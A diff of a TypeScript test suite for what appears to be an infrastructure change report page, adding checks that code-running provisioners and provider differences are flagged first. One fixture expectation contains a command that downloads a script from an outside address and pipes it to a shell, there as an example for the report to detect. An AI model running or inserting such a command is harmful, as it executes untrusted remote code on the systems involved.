@@ -15,9 +15,23 @@ const sectionOf = (text: string, id: string): string =>
     .replace(/\s+/g, ' ');
 
 describe('the page', () => {
-  test('has the verdict as its title, and destructive changes as its first section', () => {
+  test('has the verdict as its title, and what runs code as its first section', () => {
     expect(page).toContain('<title>3 stacks changed: +5 ~2 ±1 -1, 1 moved; 1 stack left behind</title>');
-    expect(/<section id="(\w+)"/.exec(page)?.[1]).toBe('dangers');
+    expect(/<section id="(\w+)"/.exec(page)?.[1]).toBe('found');
+  });
+
+  test('says what differs beside the changes of resources, once for all stacks', () => {
+    const found = sectionOf(page, 'found');
+    expect(found).toContain(
+      'runs code runs a local-exec provisioner: curl https://203.0.113.9/x | sh Where data-prod Clusters/main/NodePools/batch at examples/orbital/landing-zone.ts:132',
+    );
+    expect(found).toContain('Where terraform.required_providers of 2 stacks: organization , data-prod');
+  });
+
+  test('folds what else differs in its stack, with its values', () => {
+    expect(sectionOf(page, 'stacks')).toContain(
+      'and 2 other differences Account : data source is new output.url : output differs Attribute Before After value https://a.example https://b.example',
+    );
   });
 
   test('says of each destructive change why, what is lost and where', () => {
@@ -39,7 +53,9 @@ describe('the page', () => {
 
   test('needs nothing from elsewhere', () => {
     expect(page).not.toMatch(/\b(src|href)="(?!#)/);
-    expect(page).not.toMatch(/url\(|@import|https?:/);
+    expect(page).not.toMatch(/url\(|@import/);
+    // an address may stand in the text of what is found
+    expect(page.replace(/>[^<]*</g, '><')).not.toMatch(/https?:/);
   });
 
   test('has the same style and script for every report, so that nothing of a pull request is in them', () => {
